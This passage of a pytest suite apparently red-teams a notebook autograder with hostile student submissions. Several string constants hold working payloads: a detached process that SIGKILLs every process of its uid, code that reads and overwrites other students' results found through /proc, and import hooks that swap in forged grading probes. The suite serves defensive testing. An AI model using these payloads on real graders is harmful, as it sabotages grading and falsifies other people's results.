    return _zip_of(folder / "bad_crc_canvas.zip", {entry: nbformat.writes(solution_nb())}, damage=entry)


def make_long_canvas_name(folder, shared):
    return _zip_of(folder / "long_canvas_name.zip", {f"{'a' * 300}_12345_100_{NAME}.ipynb": nbformat.writes(solution_nb())})


def make_long_notebook_name(folder, shared):
    path = folder / f"long_notebook_name_{'x' * 226}.ipynb"  # 245 characters before .ipynb
    nbformat.write(solution_nb(), str(path))
    return path


def make_same_name_canvas(base: str):
    def make(folder, shared):  # two sections' downloads, both named submissions.zip
        nb = BASES[base][0]()
        return _zip_of(folder / f"section_{base}" / "submissions.zip", {f"doejane_12345_100_{NAME}.ipynb": nbformat.writes(nb)})
    return make


def make_case_twin(name: str, base: str):
    def make(folder, shared):  # Alice.ipynb and alice.ipynb share a folder where case does not count
        path = folder / f"{name}.ipynb"
        nbformat.write(BASES[base][0](), str(path))
        return path
    return make


ATTACKS += [
    Attack("bad_crc_export", 9, "blank", make_bad_crc_export, flag="could not be unpacked", status=("invalid",),
           gradescope=True),
    Attack("bad_crc_canvas", 9, "blank", make_bad_crc_canvas, flag="could not be unpacked", status=("invalid",),
           gradescope=True),
    Attack("long_canvas_name", 9, "solution", make_long_canvas_name, status=("ok",), min_score=FULL, gradescope=True),
    Attack("long_notebook_name", 9, "solution", make_long_notebook_name, status=("ok",), min_score=FULL,
           gradescope=True),
    Attack("same_name_canvas_solution", 9, "solution", make_same_name_canvas("solution"), min_score=FULL,
           gradescope=True),
    Attack("same_name_canvas_blank", 9, "blank", make_same_name_canvas("blank"), gradescope=True),
    Attack("Case_twin", 9, "solution", make_case_twin("Case_twin", "solution"), min_score=FULL, gradescope=True),
    Attack("case_twin", 9, "blank", make_case_twin("case_twin", "blank"), gradescope=True),
]


# --------------------------------------------------------------------------- issue 15, point 3: without a PID namespace

ESCAPE_EMPTY_ENV = """
import os, subprocess, sys
killer = '''
import os, signal, time
end = time.time() + 40  # MARK
while time.time() < end:  # every process of its uid: the next submissions of its job slot
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.02)
'''
subprocess.Popen(["setsid", sys.executable, "-S", "-c", killer], env={}, close_fds=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
"""A process in a session of its own with an empty environment (no token), that kills every
process of its uid for 40 s: without a PID namespace it outlived the group kill and the token
sweep and killed the next students' grading."""

READ_OTHER_RESULTS = STEAL + """
import re
keep("results", "tried")
outs = set()
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        line = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace")
    except OSError:
        continue
    outs.update(re.findall(r"--out\\x00([^\\x00]+)", line))
    outs.update(re.findall(r"out=Path\\('([^']+)'\\)", line))  # the test's grader names its folder so
try:
    outs.update(open(os.path.join(SHARED, "targets")).read().split())  # another batch's, known beforehand
except OSError:
    pass
for out in sorted(outs):
    keep("results", "found " + out)
    names = ["honest_solution"]
    try:
        names += os.listdir(out)
    except OSError as error:
        keep("results", "refused " + type(error).__name__)
    for name in names:
        for leaf in ("results.json", "grade.json", name + ".ipynb"):
            path = os.path.join(out, name, leaf)
            try:
                keep("results", open(path, errors="replace").read())
                with open(path, "w") as handle:  # and rewrite it, as the issue's attack did
                    handle.write('{"score": 0, "tests": []}')
            except OSError as error:
                keep("results", "refused " + type(error).__name__)
"""
"""Found the grader's ``--out`` in ``/proc/*/cmdline`` and read (and rewrote) another student's
executed notebook and results: 0644 files in 0755 folders."""


def _no_results_read(shared: Path) -> None:
    stolen = (shared / "stolen_results").read_text(errors="replace")
    assert "tried" in stolen, "the results attack did not run"
    assert '"max_score"' not in stolen and '"nbformat"' not in stolen and '"isolation"' not in stolen, \
        f"the notebook read another submission's results: {stolen[:300]}"


ATTACKS += [
    cell_attack("escape_with_empty_env", 4, "blank", ESCAPE_EMPTY_ENV, after=lambda shared: _pids_gone_by_mark(),
                gradescope=True),
    cell_attack("read_other_results", 3, "blank", READ_OTHER_RESULTS, after=_no_results_read, gradescope=True),
]


# --------------------------------------------------------------------------- class 11: swapping the probes (issue 13)

FORGED_HIDDEN = '''
import importlib.util, json, os, pickle
from pathlib import Path
PACKAGE = "autodiff_grading"
UnsafePickleError = Exception
def safe_load_pickle(path):
    with open(path, "rb") as handle:
        return pickle.load(handle)
def to_plain(value, *a):
    return value
def describe_error(exc):
    return type(exc).__name__
def seed_everything(*a):
    pass
def register(*a):
    pass
def checks_module(*a):
    return None
CHEAT = """
def save_trajectories(arrays, folder):
    Path(folder).mkdir(parents=True, exist_ok=True)
    paths = [Path(folder) / f"dataset_{i:03d}.pkl" for i in range(1, len(arrays) + 1)]
    for path, array in zip(paths, arrays):
        path.write_bytes(pickle.dumps(array))
    return paths
def load_trajectories(folder):
    return [pickle.loads(p.read_bytes()) for p in sorted(Path(folder).glob("dataset_*.pkl"))]
def species_counts(trajectory):
    import numpy as np
    return np.stack([(trajectory[:, :, 2] == s).sum(axis=1) for s in range(3)], axis=1)
"""
def collect(assignment, name, env, probes=None):
    os.umask(0)
    with open(FLAG_FILE, "a") as handle:
        handle.write(name + " ")
    spec = importlib.util.spec_from_file_location("real_probes", os.path.join(GRADING, "probes.py"))
    real = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(real)
    cheat = {"Path": Path, "pickle": pickle}
    exec(CHEAT, cheat)
    return {"ok": True, "data": json.loads(json.dumps(getattr(real, "probe_" + name)(cheat)))}
'''

FIND_GRADING = '''
import gc, os, sys, types
SPEC = next(o for o in gc.get_objects() if type(o) is dict and "grading" in o and "checks" in o)  # the runner's
GRADING = SPEC["grading"]
FORGED = "FLAG_FILE = " + repr(os.path.join(SHARED, "forged_probe_ran_" + ROUTE)) + "\\nGRADING = " + repr(GRADING) + "\\n" + SOURCE
'''


def forged_probe_attack(route: str, install: str) -> Attack:
    """A blank notebook whose cell swaps the probes for forged ones, by ``route``: the forged code
    runs our real probes on correct code of its own, so it would earn the points of every check the
    probes answer. Under the pinned probes it never runs (its flag file stays absent): 0 points."""
    source = f"ROUTE = {route!r}\nSOURCE = {FORGED_HIDDEN!r}\n" + FIND_GRADING + install

    def never_ran(shared: Path) -> None:
        flag = shared / f"forged_probe_ran_{route}"
        assert not flag.exists(), f"the forged probes ran for: {flag.read_text()}"

    return cell_attack(f"forged_probes_{route}", 11, "blank", source, after=never_ran)


ATTACKS += [
    forged_probe_attack("meta_path", '''
import importlib.abc, importlib.util
class Loader(importlib.abc.Loader):
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        exec(FORGED, vars(module))
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name == "autodiff_course.hidden" or name.endswith(".probes"):
            return importlib.util.spec_from_loader(name, Loader())
        return None
sys.meta_path.insert(0, Finder())
sys.modules.pop("autodiff_course.hidden", None)
'''),
    forged_probe_attack("package_path", '''
import autodiff_course
folder = os.path.join(os.getcwd(), "forged_package")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "hidden.py"), "w") as handle:
    handle.write(FORGED)
autodiff_course.__path__.insert(0, folder)
sys.modules.pop("autodiff_course.hidden", None)
'''),
    forged_probe_attack("worker_globals", '''
forged = types.ModuleType("forged_hidden")
exec(FORGED, vars(forged))
worker = vars(sys.modules["autodiff_course.grade.runner"])  # the grading worker's globals
worker["run_checks"] = lambda spec, env, *a, **k: {n: forged.collect(spec["assignment"], n, env) for n in spec["checks"]}
'''),
]


# --------------------------------------------------------------------------- grading


def readable_text() -> str:
    """What a child may read by design: the package, the assignment's probes, and its own
    notebook. A line found there is no leak, however it got into the results."""
    return BLANK.read_text() + CHECKS_SOURCE.read_text() + "".join(p.read_text() for p in PACKAGE_SOURCE.rglob("*.py"))


def hidden_texts() -> list[str]:
    """Lines of hidden material long enough to be telling: the judges and the hidden test files."""
    lines = JUDGES_SOURCE.read_text().splitlines()
    for path in (paths.ROOT / "autograder" / NAME / "tests").glob("*.py"):
        lines += path.read_text().splitlines()
    readable = readable_text()
    return sorted({line.strip() for line in lines if len(line.strip()) >= 25 and not line.strip().startswith("#")
                   and line.strip() not in readable})


def visible_text(results: dict) -> str:
    parts = [str(results.get("output", ""))]
    parts += [f"{t.get('name')} {t.get('output')}" for t in results.get("tests", []) if t.get("visibility") != "hidden"]
    return "\n".join(parts)


def _batch_script(out: Path, sources: list[Path]) -> list[str]:
    code = (
        "import sys; from pathlib import Path; from autodiff_course.grade import batch\n"
        f"sys.exit(batch.main(assignment={NAME!r}, sources=[Path(p) for p in sys.argv[1:]], out=Path({str(out)!r}),"
        f" jobs=2, cell_timeout={CELL_LIMIT}, timeout={TIMEOUT}, memory_mb=1536, quiet=True, log=lambda *_: None))"
    )
    return [sys.executable, "-c", code, *map(str, sources)]


ONLY = [name for name in os.environ.get("ATTACKS_ONLY", "").split(",") if name]
BATCH = [a for a in ATTACKS if not ONLY or a.name in ONLY]
"""The attacks graded (``ATTACKS_ONLY=name,name``: only those, to show quickly that one fails)."""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    subs, shared = base / "subs", writable_by_children("attacks-shared-")
    subs.mkdir()
    made = {a.name: a.make(subs, shared) for a in BATCH}
    honest = subs / "honest_solution.ipynb"
    nbformat.write(solution_nb(), str(honest))
    out = base / "out"
    started = time.monotonic()
    proc = subprocess.run(_batch_script(out, [honest, *made.values()]), capture_output=True, text=True,
                          start_new_session=True, timeout=600)
    seconds = time.monotonic() - started
    rows = list(csv.DictReader(open(out / "grades.csv"))) if (out / "grades.csv").exists() else []
    return {"base": base, "out": out, "made": made, "honest": honest, "proc": proc, "rows": rows,
            "shared": shared, "seconds": seconds}


def row_for(attacked, path: Path) -> list[dict]:
    exact = [r for r in attacked["rows"] if str(path.resolve()) in r["source"]]
    return exact or [r for r in attacked["rows"] if path.name in r["source"]]


def test_the_batch_goes_on(attacked):
    proc = attacked["proc"]
    assert proc.returncode in (0, 1), f"the grader died (exit {proc.returncode}): {proc.stderr[-1500:]}"
    [honest] = row_for(attacked, attacked["honest"])
    assert (float(honest["total"]), honest["status"]) == (FULL, "ok"), honest
    ids = [r["id"] for r in attacked["rows"]]
    assert len({i.casefold() for i in ids}) == len(ids), "two submissions share a folder where case does not count"
    assert all(len(i) <= submissions.MAX_ID for i in ids), [i for i in ids if len(i) > submissions.MAX_ID]
    assert len(ids) == len(attacked["made"]) + 1, "a submission was lost or graded twice"
    for name, path in attacked["made"].items():
        rows = row_for(attacked, path)
        assert len(rows) == 1, f"{name}: {len(rows)} rows"
    assert len({row_for(attacked, path)[0]["id"] for path in attacked["made"].values()}) == len(attacked["made"])


@pytest.mark.parametrize("attack", BATCH, ids=[a.name for a in BATCH])
def test_attack_gains_nothing_locally(attacked, attack):
    assert attacked["rows"], f"the batch left no grades.csv: {attacked['proc'].stderr[-1500:]}"
    [row] = row_for(attacked, attacked["made"][attack.name])
    ceiling = BASES[attack.base][1]
    assert float(row["total"]) <= ceiling, f"{attack.name} gained points: {row}"
    if attack.base == "wrong":
        assert float(row["species_counts"]) == 0, f"{attack.name} made the wrong answer pass: {row}"
    if attack.min_score is not None:
        assert float(row["total"]) >= attack.min_score, f"{attack.name}: the honest part lost points: {row}"
    if attack.status:
        assert row["status"] in attack.status, row
    if attack.flag:
        assert attack.flag in row["reason"] + row["notes"], f"{attack.name}: no plain-words flag: {row}"
    results = json.loads((attacked["out"] / row["id"] / "results.json").read_text())
    visible = visible_text(results)
    leaked = [line for line in hidden_texts() if line in visible]
    assert not leaked, f"{attack.name}: hidden test text in results.json: {leaked[:3]}"
    assert sum(t["score"] for t in results["tests"]) == float(row["total"])
    assert max(len(t["output"]) for t in results["tests"]) <= MAX_MESSAGE_CHARS, f"{attack.name}: an uncapped message"
    if attack.after is not None:
        attack.after(attacked["shared"])


# --------------------------------------------------------------------------- Gradescope


def run_gradescope(submission: Path, where: Path, **switches: str) -> tuple[dict | None, subprocess.CompletedProcess]:
    """Unpack the built zip as Gradescope does and run the entry point its run_autograder calls
    (``switches``: ``AUTODIFF_*`` settings for it)."""
    root = where / "autograder"
    for folder in ("source", "submission", "results"):
        (root / folder).mkdir(parents=True)
    with zipfile.ZipFile(ARCHIVE) as zf:
        from autodiff_course.grade.gradescope import ENTRY_POINT

        assert zf.read("run_otter.py").decode() == ENTRY_POINT, "the zip is stale: run `autodiff-course build`"
        zf.extractall(root / "source")
    # The zip carries the package as it was at its last build; grade with the package as it is now
    # (the engine under attack), in the zip's layout and through its own entry point.
    package = root / "source" / "files" / "autodiff_course"
    shutil.rmtree(package)
    shutil.copytree(Path(paths.__file__).parent, package, ignore=shutil.ignore_patterns("__pycache__"))
    target = root / "submission" / submission.name
    if submission.is_symlink():
        target.symlink_to(os.readlink(submission))
    elif submission.is_dir():
        shutil.copytree(submission, target, symlinks=True)
    else:
        shutil.copy(submission, target)
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"} | switches
    proc = subprocess.run([sys.executable, str(root / "source" / "run_otter.py")], capture_output=True, text=True,
                          env=env, start_new_session=True, timeout=300)
    results = root / "results" / "results.json"
    return (json.loads(results.read_text()) if results.exists() else None), proc


for _attack in ATTACKS:  # every attack goes through the Gradescope zip too
    _attack.gradescope = True
GS_ATTACKS = BATCH


@pytest.fixture(scope="module")
def gradescoped(attacked):
    base = attacked["base"] / "gradescope"

    def one(attack):
        return attack.name, run_gradescope(attacked["made"][attack.name], base / attack.name)

    slowest_first = sorted(GS_ATTACKS, key=lambda a: a.name != "infinite_loop")  # 2 minutes: the zip's cell limit
    with ThreadPoolExecutor(max_workers=2) as pool:
        return dict(pool.map(one, slowest_first))


@pytest.mark.parametrize("attack", GS_ATTACKS, ids=[a.name for a in GS_ATTACKS])
def test_attack_gains_nothing_on_gradescope(attacked, gradescoped, attack):
    results, proc = gradescoped[attack.name]
    assert results is not None, f"{attack.name}: the autograder left no results.json (exit {proc.returncode})"
    total = sum(t["score"] for t in results["tests"])
    assert total <= BASES[attack.base][1], f"{attack.name} gained points on Gradescope"
    if attack.min_score is not None:
        assert total >= attack.min_score
    [row] = row_for(attacked, attacked["made"][attack.name])
    local = json.loads((attacked["out"] / row["id"] / "results.json").read_text())
    assert [(t["name"], t["score"]) for t in results["tests"]] == [(t["name"], t["score"]) for t in local["tests"]]
    leaked = [line for line in hidden_texts() if line in visible_text(results)]
    assert not leaked, f"{attack.name}: hidden test text in results.json: {leaked[:3]}"
    assert max(len(t["output"]) for t in results["tests"]) <= MAX_MESSAGE_CHARS, f"{attack.name}: an uncapped message"
    if attack.flag:
        assert attack.flag in results["output"], f"{attack.name}: no plain-words flag on Gradescope: {results['output']}"
    if attack.after is not None:
        attack.after(attacked["shared"])


def _stash_leaks(results: dict) -> list[str]:
    visible = visible_text(results)
    return [value for value in hidden_inputs() if value in visible]


def test_hidden_inputs_never_reach_a_visible_field(attacked, gradescoped):
    """Class 8: the notebook's save_trajectories keeps every input the grader gives it and raises
    them when the public test calls it. Public tests run before the probes, so there is nothing
    hidden to raise: no hidden input in results.json, locally or on Gradescope."""
    stashed = (attacked["shared"] / "stashed_inputs").read_text()
    assert any(value in stashed for value in hidden_inputs()), "the notebook kept no hidden input"
    [row] = row_for(attacked, attacked["made"]["stash_hidden_inputs"])
    local = json.loads((attacked["out"] / row["id"] / "results.json").read_text())
    assert not _stash_leaks(local), f"hidden inputs in the local results.json: {_stash_leaks(local)[:4]}"
    results, proc = gradescoped["stash_hidden_inputs"]
    assert results is not None and not _stash_leaks(results), "hidden inputs in Gradescope's results.json"


def _ipc_pair(tmp_path: Path) -> tuple[Path, Path, Path]:
    shared = writable_by_children("ipc-shared-")
    leave, read = (next(a for a in ATTACKS if a.name == n) for n in ("ipc_leave_a_note", "ipc_read_the_note"))
    return leave.make(tmp_path, shared), read.make(tmp_path, shared), shared


def test_one_slot_keeps_no_ipc_between_submissions(tmp_path):
    """Class 7, one job slot: the second notebook, in the very fork server the first ran in,
    meets nothing the first made, and nothing of it is left on the machine."""
    assert not _ours(machine_ipc()), f"left by an earlier run: {_ours(machine_ipc())}"
    leave, read, shared = _ipc_pair(tmp_path)
    out = tmp_path / "out"
    script = _batch_script(out, [leave, read])
    script[2] = script[2].replace("jobs=2", "jobs=1")
    proc = subprocess.run(script, capture_output=True, text=True, start_new_session=True, timeout=300)
    rows = list(csv.DictReader(open(out / "grades.csv")))
    assert [float(r["total"]) for r in rows] == [FULL, FULL], proc.stderr[-2000:]
    _no_ipc_left(shared)
    _no_note_met(shared)
    record = json.loads((out / rows[1]["id"] / "grade.json").read_text())
    if os.geteuid() == 0:
        assert record["isolation"]["ipc"] == "submission", record["isolation"]


def test_gradescope_keeps_no_ipc_between_submissions(tmp_path):
    """Class 7 through the zip's entry point: one upload graded after the other on one machine."""
    leave, read, shared = _ipc_pair(tmp_path)
    for name, path in (("leave", leave), ("read", read)):
        results, proc = run_gradescope(path, tmp_path / name)
        assert results is not None and sum(t["score"] for t in results["tests"]) == FULL, proc.stderr[-2000:]
    _no_ipc_left(shared)
    _no_note_met(shared)


# --------------------------------------------------------------------------- without a PID namespace


def _no_sandbox_batch(tmp_path: Path, attack_name: str, before=(), after=(), out: Path | None = None, jobs=2):
    """Grade one attack with the PID namespace switched off, as on a machine that allows none
    (``before``/``after``: other submissions graded with it, in that order, by ``jobs`` slots)."""
    attack = next(a for a in ATTACKS if a.name == attack_name)
    shared = writable_by_children("attacks-shared-")
    sub = attack.make(tmp_path, shared)
    out = out or tmp_path / "out"
    env = dict(os.environ, AUTODIFF_NO_SANDBOX="1")
    script = _batch_script(out, [*before, sub, *after])
    script[2] = script[2].replace("jobs=2", f"jobs={jobs}")
    proc = subprocess.run(script, capture_output=True, text=True, env=env, start_new_session=True, timeout=300)
    rows = list(csv.DictReader(open(out / "grades.csv"))) if (out / "grades.csv").exists() else []
    return attack, shared, proc, rows


def test_without_namespace_escaped_processes_are_still_killed(tmp_path):
    """``setsid`` takes the forks out of the process group; the grader finds them by a token in
    their environment and kills them."""
    attack, shared, proc, rows = _no_sandbox_batch(tmp_path, "fork_and_escape")
    assert proc.returncode in (0, 1) and len(rows) == 1 and float(rows[0]["total"]) == 0
    attack.after(shared)


def test_without_namespace_killing_the_grader_fails(tmp_path):
    """The child runs under its own uid (the grader is root here, as on Gradescope), so it may not
    signal the grader even when both share one PID namespace."""
    if os.geteuid() != 0:
        pytest.skip("the child runs under the grader's own uid here (not root): it can signal the grader")
    _attack, _shared, proc, rows = _no_sandbox_batch(tmp_path, "kill_parent_sigkill")
    assert proc.returncode in (0, 1) and len(rows) == 1 and float(rows[0]["total"]) == FULL


def test_without_namespace_the_memory_of_the_grader_is_closed(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("the child runs under the grader's own uid here (not root): it can read the grader's memory")
    attack, shared, proc, rows = _no_sandbox_batch(tmp_path, "scan_memory_of_all_processes")
    assert proc.returncode in (0, 1) and len(rows) == 1
    attack.after(shared)


def _honest_copies(folder: Path, count: int) -> list[Path]:
    made = []
    for index in range(count):
        made.append(folder / f"honest_{index}.ipynb")
        nbformat.write(solution_nb(), str(made[-1]))
    return made


def test_without_namespace_an_escape_without_token_spares_the_next_submissions(tmp_path):
    """Issue 15.3: a process in a session of its own with an empty environment, killing every
    process of its uid, graded in one job slot before two honest solutions. The fork server kills
    what was reparented to it (a child subreaper) and every process of the slot's uid before the
    next child starts: both keep full marks, and nothing of it is left."""
    attack, shared, proc, rows = _no_sandbox_batch(tmp_path, "escape_with_empty_env", after=_honest_copies(tmp_path, 2),
                                                   jobs=1)
    honest = [r for r in rows if "honest_" in r["source"]]
    assert len(rows) == 3 and [float(r["total"]) for r in honest] == [FULL, FULL], (rows, proc.stderr[-2000:])
    attack.after(shared)
    record = json.loads((tmp_path / "out" / honest[0]["id"] / "grade.json").read_text())
    missing = record["isolation"]["missing"]
    assert {"pid_namespace", "network", "enclosed"} <= set(missing), record["isolation"]
    assert "command line" in missing["pid_namespace"], missing
    results, proc = run_gradescope(attack.make(tmp_path, shared), tmp_path / "gradescope", AUTODIFF_NO_SANDBOX="1")
    assert results is not None and sum(t["score"] for t in results["tests"]) == 0, proc.stderr[-2000:]
    attack.after(shared)  # the entry point returned: nothing of the notebook runs on


def test_without_namespace_results_are_closed_to_other_submissions(tmp_path):
    """Issue 15.3: a notebook that finds ``--out`` in the grader's command line and reads and
    rewrites the other submissions' notebooks and results there, graded after an honest solution
    in a folder open to every user; then again through the Gradescope entry point, told where that
    earlier batch lies. The grader's results are 0700 folders of 0600 files: its uid gets nothing."""
    if os.geteuid() != 0:
        pytest.skip("the child runs under the grader's own uid here (not root): grade.json says so")
    base = Path(tempfile.mkdtemp(prefix="open-results-"))
    try:
        base.chmod(0o755)
        out = base / "out"
        [honest] = _honest_copies(tmp_path, 1)
        attack, shared, proc, rows = _no_sandbox_batch(tmp_path, "read_other_results", before=[honest], out=out, jobs=1)
        [row] = [r for r in rows if "honest_" in r["source"]]
        assert len(rows) == 2 and float(row["total"]) == FULL, (rows, proc.stderr[-2000:])
        stolen = (shared / "stolen_results").read_text()
        assert f"found {out}" in stolen, f"the notebook did not find the grader's --out: {stolen[:500]}"
        attack.after(shared)
        honest_results = (out / row["id"] / "results.json").read_text()
        for path in [out, *out.rglob("*")]:
            assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path
        (shared / "targets").write_text(str(out))
        results, proc = run_gradescope(attack.make(tmp_path, shared), tmp_path / "gradescope", AUTODIFF_NO_SANDBOX="1")
        assert results is not None, proc.stderr[-2000:]
        attack.after(shared)
        assert (out / row["id"] / "results.json").read_text() == honest_results
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_a_process_without_session_or_token_is_killed_by_uid():
    """What the grader does after a fork server stops (a timeout), where no PID namespace kills
    what its children left: every process of the slot's uid, whatever its session and environment."""
    if os.geteuid() != 0:
        pytest.skip("killing by uid needs a root grader")
    from autodiff_course.grade import processes, sandbox

    uid, lease = sandbox.lease_uid(sandbox.CHILD_UID_BASE)
    stray = subprocess.Popen(["sleep", MARK], user=uid, group=uid, extra_groups=[], env={}, start_new_session=True)
    try:
        processes.kill_user(uid)
        assert stray.wait(timeout=10) == -9
    finally:
        stray.kill()
        stray.wait()
        os.close(lease)


def test_children_ran_under_their_own_uid(attacked):
    """Root graders (Gradescope, this test machine) must isolate by uid: every guarantee of class 3
    and of the no-namespace tests rests on it."""
    honest = [r for r in attacked["rows"] if r["source"].endswith("honest_solution.ipynb")]
    record = json.loads((attacked["out"] / honest[0]["id"] / "grade.json").read_text())
    if os.geteuid() == 0:
        assert record["isolation"]["uid"] is not None, record["isolation"]


def test_a_grader_without_root_encloses_its_children(tmp_path):
    """An instructor grading as an ordinary user: the worker makes its enclosure in a user
    namespace, the children hold no capabilities, and the reading attacks find nothing, though
    the judges and the master belong to the very user the notebook runs as."""
    if os.geteuid() != 0:
        pytest.skip("needs root to play an ordinary user")
    user = 62000
    copy = Path(tempfile.mkdtemp(prefix="non-root-grader-"))  # not shared with the children
    try:
        _grade_as_ordinary_user(copy, user)
    finally:
        shutil.rmtree(copy, ignore_errors=True)


def _grade_as_ordinary_user(copy: Path, user: int) -> None:
    for folder in ("src", "autograder", "student_release", "assignments", "solutions"):
        shutil.copytree(paths.ROOT / folder, copy / folder, ignore=shutil.ignore_patterns("__pycache__", "variants"))
    shared = writable_by_children("non-root-shared-")
    subs = []
    for name in ("import_judges", "read_judges_files", "read_the_course_repository", "kill_parent_sigkill"):
        attack = next(a for a in ATTACKS if a.name == name)
        text = attack.make(copy, shared).read_text().replace(str(paths.ROOT), str(copy))
        (copy / f"{name}.ipynb").write_text(text)
        subs.append(copy / f"{name}.ipynb")
    for path in [copy, *copy.rglob("*")]:
        os.chown(path, user, user, follow_symlinks=False)
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
    env.update(PYTHONPATH=str(copy / "src"), HOME=str(copy))
    proc = subprocess.run(_batch_script(copy / "out", subs), user=user, group=user, extra_groups=[], env=env,
                          cwd=copy, capture_output=True, text=True, start_new_session=True, timeout=300)
    rows = list(csv.DictReader(open(copy / "out" / "grades.csv")))
    assert len(rows) == len(subs), proc.stderr[-2000:]
    records = [json.loads((copy / "out" / r["id"] / "grade.json").read_text()) for r in rows]
    if not all(r["isolation"]["enclosed"] for r in records):
        pytest.skip(f"this machine allows no user namespace: {records[0]['isolation']}")
    assert {r["id"]: float(r["total"]) for r in rows}["kill_parent_sigkill"] == FULL
    stolen = "".join(p.read_text(errors="replace") for p in shared.glob("stolen_*"))
    assert stolen.count("tried") == 3, "the reading attacks did not run"
    _nothing_stolen(shared)


# --------------------------------------------------------------------------- class 10: a runner that is not ours (issue 15.6)

OTTER_RUN_ATTACK = """
import importlib.util, os
os.umask(0)  # 0666: the test reads them
open(os.path.join(SHARED, "marker_otter_ran"), "w").write("the notebook ran under otter's runner")
_spec = importlib.util.spec_from_file_location
def _spy(name, *args, **kwargs):  # what the hidden tests load, later, in this same process
    with open(os.path.join(SHARED, "loaded_under_otter"), "a") as handle:
        handle.write(name + "\\n")
    return _spec(name, *args, **kwargs)
importlib.util.spec_from_file_location = _spy
for target in open(os.path.join(SHARED, "targets")).read().split():
    try:
        with open(target, "w") as handle:
            handle.write('{"score": 11, "tests": []}')
    except OSError:
        pass
"""


def otter_zip(where: Path, plugin: bool = True) -> Path:
    """The committed zip with the package as it is now and its ``otter_config.json`` made as the
    build makes it (``plugin=False``: the refusing plugin taken out again, as someone bypassing it would)."""
    from autodiff_course.grade import gradescope

    target = where / f"{NAME}-autograder.zip"
    with zipfile.ZipFile(ARCHIVE) as zin, zipfile.ZipFile(target, "w") as zout:
        for info in zin.infolist():
            if info.filename.startswith("files/autodiff_course/"):
                continue
            data = zin.read(info)
            if info.filename == "otter_config.json":
                config = json.loads(gradescope.otter_config(data))
                config["plugins"] = config["plugins"] if plugin else []
                data = json.dumps(config).encode()
            zout.writestr(info, data)
        for path in sorted(PACKAGE_SOURCE.rglob("*.py")):
            zout.write(path, f"files/autodiff_course/{path.relative_to(PACKAGE_SOURCE)}")
    return target


def _otter_run(archive: Path, notebook: Path, out: Path) -> subprocess.CompletedProcess:
    """``otter run`` as an instructor would, with the package importable as the zip lays it out
    (its ``files/``: the package beside ``grading/``), so the kernel's package is the zip's own."""
    out.mkdir()
    files = out.parent / "zip_files"
    with zipfile.ZipFile(archive) as zf:
        for entry in zf.namelist():
            if entry.startswith("files/"):
                zf.extract(entry, files)
    env = dict(os.environ, PYTHONPATH=str(files / "files"))
    return subprocess.run([str(Path(sys.executable).parent / "otter"), "run", "-a", str(archive), "-o", str(out),
                           str(notebook)], capture_output=True, text=True, env=env, cwd=notebook.parent,
                          start_new_session=True, timeout=300)


def test_otter_run_refuses_our_zip_before_the_notebook_runs(tmp_path):
    """Issue 15.6: ``otter run`` with the zip executed the notebook unsandboxed, with the judges in
    its process; an attack cell rewrote another batch's results.json. Now the zip's plugin stops
    otter before anything of the notebook runs, naming the course's grader; and were the plugin
    taken out, the hidden tests would refuse to judge there, never loading the judges."""
    shared = writable_by_children("otter-shared-")
    victim = tmp_path / "other_batch" / "results.json"
    victim.parent.mkdir()
    victim.write_text('{"score": 3}')
    (shared / "targets").write_text(str(victim))
    attack = cell_attack("otter_run_attack", 10, "solution", OTTER_RUN_ATTACK).make(tmp_path, shared)
    proc = _otter_run(otter_zip(tmp_path), attack, tmp_path / "out")
    assert proc.returncode != 0 and "autodiff-course grade" in proc.stdout + proc.stderr, proc.stderr[-2000:]
    assert not (shared / "marker_otter_ran").exists(), "the notebook ran under otter's runner"
    assert victim.read_text() == '{"score": 3}'

    (tmp_path / "bypass").mkdir()
    proc = _otter_run(otter_zip(tmp_path / "bypass", plugin=False), attack, tmp_path / "bypass" / "out")
    assert (shared / "marker_otter_ran").exists(), f"otter did not run the notebook: {proc.stderr[-2000:]}"
    loaded = (shared / "loaded_under_otter").read_text() if (shared / "loaded_under_otter").exists() else ""
    assert "judges" not in loaded, f"the judges were loaded in the notebook's process: {loaded}"
    results = json.loads((tmp_path / "bypass" / "out" / "results.json").read_text())
    hidden = [t for t in results["tests"] if t.get("max_score")]
    assert hidden and all(t["score"] == 0 and "autodiff-course grade" in t["output"] for t in hidden), hidden
